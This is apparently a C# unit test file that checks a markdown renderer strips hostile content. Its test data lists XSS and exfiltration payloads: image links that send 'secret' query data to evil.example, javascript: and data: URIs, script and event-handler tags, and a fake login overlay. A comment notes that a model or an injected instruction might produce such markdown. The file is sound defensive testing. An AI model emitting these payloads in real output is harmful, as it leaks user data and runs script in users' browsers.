using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using PersonaExplorer.Components.Markdown;

namespace PersonaExplorer.Tests.Components.Markdown;

public class MarkdownRendererTests
{
    private readonly MarkdownRenderer _renderer = new();

    /// <summary>Hostile markdown a model (or an injected instruction, or a profile concept) might produce.</summary>
    public static TheoryData<string> HostilePayloads => new()
    {
        "![t](http://127.0.0.1:9/x.png?d=leak)",
        "Here you go ![](https://evil.example/?q=my+secret+request)",
        "![alt](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<div style=\"position:fixed;inset:0;background:white;z-index:99999\">Session expired, log in again</div>",
        "# Title {style=\"position:fixed;inset:0;background:red\" .mud-overlay onclick=\"alert(1)\"}",
        "**bold**{style=\"position:fixed\"}",
        "<a href=\"https://evil.example\" onclick=\"alert(1)\">x</a>",
        "<iframe src=\"https://evil.example\"></iframe><form action=\"https://evil.example\"><input name=p></form>",
        "<svg onload=alert(1)><use href=\"https://evil.example/x.svg#a\"/></svg>",
        "<link rel=stylesheet href=https://evil.example/x.css><style>body{background:url(https://evil.example/x)}</style>",
        "- [x] done\n- [ ] open",
        "[ref]: https://evil.example/x.png\n\n![ref]",
    };

    [Theory]
    [MemberData(nameof(HostilePayloads))]
    public void Hostile_markdown_renders_only_allowed_tags_without_styles_handlers_or_loading_elements(string payload)
    {
        var html = _renderer.ToSafeHtml(payload);
        var body = Parse(html);

        foreach (var element in body.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, MarkdownRenderer.AllowedTags);
            foreach (var attribute in element.Attributes)
                Assert.Contains(attribute.Name, new[] { "href", "title", "start", "target", "rel" });
        }
        Assert.Empty(body.QuerySelectorAll("img, script, style, iframe, form, input, svg, link, object, embed, video, audio, source"));
        foreach (var link in body.QuerySelectorAll("a[href]"))
            Assert.Matches("^(https?:|mailto:)", link.GetAttribute("href")!);
    }

    [Fact]
    public void An_image_shows_its_alt_text_and_its_address_as_a_link_instead_of_loading()
    {
        var body = Parse(_renderer.ToSafeHtml("See ![a map of Lisbon](http://127.0.0.1:9/x.png?d=leak) here"));

        Assert.Empty(body.QuerySelectorAll("img"));
        Assert.Contains("a map of Lisbon", body.TextContent);
        var link = Assert.Single(body.QuerySelectorAll("a"));
        Assert.Equal("http://127.0.0.1:9/x.png?d=leak", link.GetAttribute("href"));
        Assert.Equal("http://127.0.0.1:9/x.png?d=leak", link.TextContent);
    }

    [Fact]
    public void Links_open_in_a_new_tab_without_opener_referrer_or_endorsement()
    {
        var link = Assert.Single(Parse(_renderer.ToSafeHtml("[docs](https://example.org/a)")).QuerySelectorAll("a"));

        Assert.Equal("https://example.org/a", link.GetAttribute("href"));
        Assert.Equal("_blank", link.GetAttribute("target"));
        Assert.Equal("noopener noreferrer nofollow", link.GetAttribute("rel"));
    }

    [Fact]
    public void A_javascript_link_keeps_its_text_but_loses_its_address()
    {
        var link = Assert.Single(Parse(_renderer.ToSafeHtml("[click me](javascript:alert(1))")).QuerySelectorAll("a"));

        Assert.Null(link.GetAttribute("href"));
        Assert.Equal("click me", link.TextContent);
    }

    [Fact]
    public void Raw_html_is_shown_as_text_not_interpreted()
    {
        var body = Parse(_renderer.ToSafeHtml("<img src=x onerror=alert(1)> and <b>bold</b>"));

        Assert.Contains("<img src=x onerror=alert(1)>", body.TextContent);
        Assert.Empty(body.QuerySelectorAll("b, img"));
    }

    [Fact]
    public void Generic_attribute_syntax_is_left_as_text_and_sets_no_style_or_class()
    {
        var body = Parse(_renderer.ToSafeHtml("# Title {style=\"position:fixed\" .overlay}"));

        var heading = Assert.Single(body.QuerySelectorAll("h1"));
        Assert.Empty(heading.Attributes);
        Assert.Contains("style=", heading.TextContent);
    }

    [Fact]
    public void Task_list_boxes_are_marks_not_form_elements()
    {
        var body = Parse(_renderer.ToSafeHtml("- [x] book flights\n- [ ] pack"));

        Assert.Empty(body.QuerySelectorAll("input"));
        Assert.Contains("☑ book flights", body.TextContent);
        Assert.Contains("☐ pack", body.TextContent);
    }

    [Fact]
    public void What_answers_need_still_renders_emphasis_lists_tables_code_links_and_headings()
    {
        var body = Parse(_renderer.ToSafeHtml("""
            ## Plan

            *Day one* is **busy**, ~~not~~ quiet.

            1. Museum
            2. Dinner

            | Place | Cost |
            |-------|-----:|
            | Tram  | 3 €  |

            `inline` and

            ```
            code block
            ```

            <https://example.org>
            """));

        Assert.Equal("Plan", body.QuerySelector("h2")?.TextContent);
        Assert.NotNull(body.QuerySelector("em"));
        Assert.NotNull(body.QuerySelector("strong"));
        Assert.NotNull(body.QuerySelector("del"));
        Assert.Equal(2, body.QuerySelectorAll("ol > li").Length);
        Assert.Equal("3 €", body.QuerySelector("table tbody td:last-child")?.TextContent);
        Assert.Null(body.QuerySelector("td")?.GetAttribute("style"));
        Assert.Equal("inline", body.QuerySelector("p > code")?.TextContent);
        Assert.Contains("code block", body.QuerySelector("pre > code")?.TextContent);
        Assert.Equal("https://example.org", body.QuerySelector("a")?.GetAttribute("href"));
    }

    [Fact]
    public void Rendering_from_many_threads_at_once_gives_the_same_html_as_one_at_a_time()
    {
        var inputs = Enumerable.Range(0, 200).Select(i => $"**{i}** [l{i}](https://e.org/{i}) ![x](http://h/{i}.png) <script>{i}</script>").ToArray();
        var expected = inputs.Select(_renderer.ToSafeHtml).ToArray();

        var actual = new string[inputs.Length];
        Parallel.For(0, inputs.Length, new ParallelOptions { MaxDegreeOfParallelism = 8 }, i => actual[i] = _renderer.ToSafeHtml(inputs[i]));

        Assert.Equal(expected, actual);
    }

    private static IElement Parse(string html) =>
        new HtmlParser().ParseDocument("<!DOCTYPE html><html><body>" + html + "</body></html>").Body!;
}
